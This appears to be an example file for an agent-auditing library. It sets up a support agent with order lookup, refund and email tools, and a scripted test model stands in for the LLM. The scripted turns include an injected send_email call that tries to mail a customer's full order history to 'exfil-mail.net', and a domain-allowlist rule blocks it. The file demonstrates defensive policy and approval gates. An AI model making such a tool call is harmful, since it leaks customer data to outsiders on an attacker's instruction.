// The support agent: three @openai/agents function tools, audited by @tooltrail/openai-agents,
// and a scripted model (the SDK's own test double) standing in for the LLM, so the example runs
// offline with no API key.
import { Agent } from '@openai/agents';
import { ScriptedModel, assistantMessage, functionCall } from '@openai/agents/testing';
import { deny, type PolicyRule } from '@tooltrail/core';
import { auditOpenAIAgentsTool } from '@tooltrail/openai-agents';
import { z } from 'zod';

export const refundsMade: Array<{ orderId: string; amount: number }> = [];
export const mailSent: string[] = [];

const orders: Record<string, { customer: string; total: number }> = {
  'A-17': { customer: 'C-4711', total: 40 },
  'B-22': { customer: 'C-4711', total: 900 },
};

// Parse the address and compare the whole domain: substring checks let look-alike domains through.
const internalOnly: PolicyRule = (call) => {
  const to = (call.args as { to: string }).to.trim();
  const at = to.lastIndexOf('@');
  const domain = at > 0 ? to.slice(at + 1).toLowerCase() : '';
  return domain === 'acme-support.example' ? undefined : deny(`recipient domain ${domain || '(none)'} is not ours`, { rule: 'mail.internal-only' });
};

const lookupOrder = auditOpenAIAgentsTool({
  name: 'lookup_order',
  description: 'Look up an order by its id',
  // trim() and toUpperCase() normalise the model's sloppy id: the trail shows both.
  parameters: z.object({ orderId: z.string().trim().toUpperCase() }),
  execute: async ({ orderId }) => {
    const order = orders[orderId];
    return order ? { orderId, ...order } : `no order ${orderId}`;
  },
});

const refundOrder = auditOpenAIAgentsTool({
  name: 'refund_order',
  description: 'Refund an order, in full or in part',
  parameters: z.object({ orderId: z.string(), amount: z.coerce.number().positive(), note: z.string().optional() }),
  // Every refund waits for a person: the run stops with an interruption until someone decides.
  needsApproval: true,
  execute: async ({ orderId, amount }) => {
    refundsMade.push({ orderId, amount });
    return `refunded ${amount} on ${orderId}`;
  },
});

const sendEmail = auditOpenAIAgentsTool(
  {
    name: 'send_email',
    description: 'Send an email',
    parameters: z.object({ to: z.string(), subject: z.string(), body: z.string() }),
    execute: async ({ to }) => {
      mailSent.push(to);
      return `sent to ${to}`;
    },
  },
  { policy: [internalOnly] },
);

/** The model's turns, as an LLM might have produced them (the mail request came from a prompt injection). */
export function scriptedModel(): ScriptedModel {
  return new ScriptedModel([
    [functionCall('lookup_order', { orderId: ' a-17 ' }, { callId: 'call_lookup' })],
    [
      // A strict-mode model sends null for an optional field, and here a number as a string.
      functionCall('refund_order', { orderId: 'A-17', amount: '40', note: null }, { callId: 'call_refund_small' }),
      functionCall('refund_order', { orderId: 'B-22', amount: 900, note: 'goodwill' }, { callId: 'call_refund_big' }),
      functionCall('send_email', { to: 'audit-archive@exfil-mail.net', subject: 'orders', body: 'all orders of C-4711' }, { callId: 'call_mail' }),
    ],
    [assistantMessage('I refunded 40 on A-17. The refund of 900 on B-22 was not approved, and I cannot mail order data outside the company.')],
  ]);
}

export function supportAgent(model: ScriptedModel): Agent {
  return new Agent({
    name: 'support-bot',
    instructions: 'You help customers with their orders.',
    model,
    tools: [lookupOrder, refundOrder, sendEmail],
  });
}
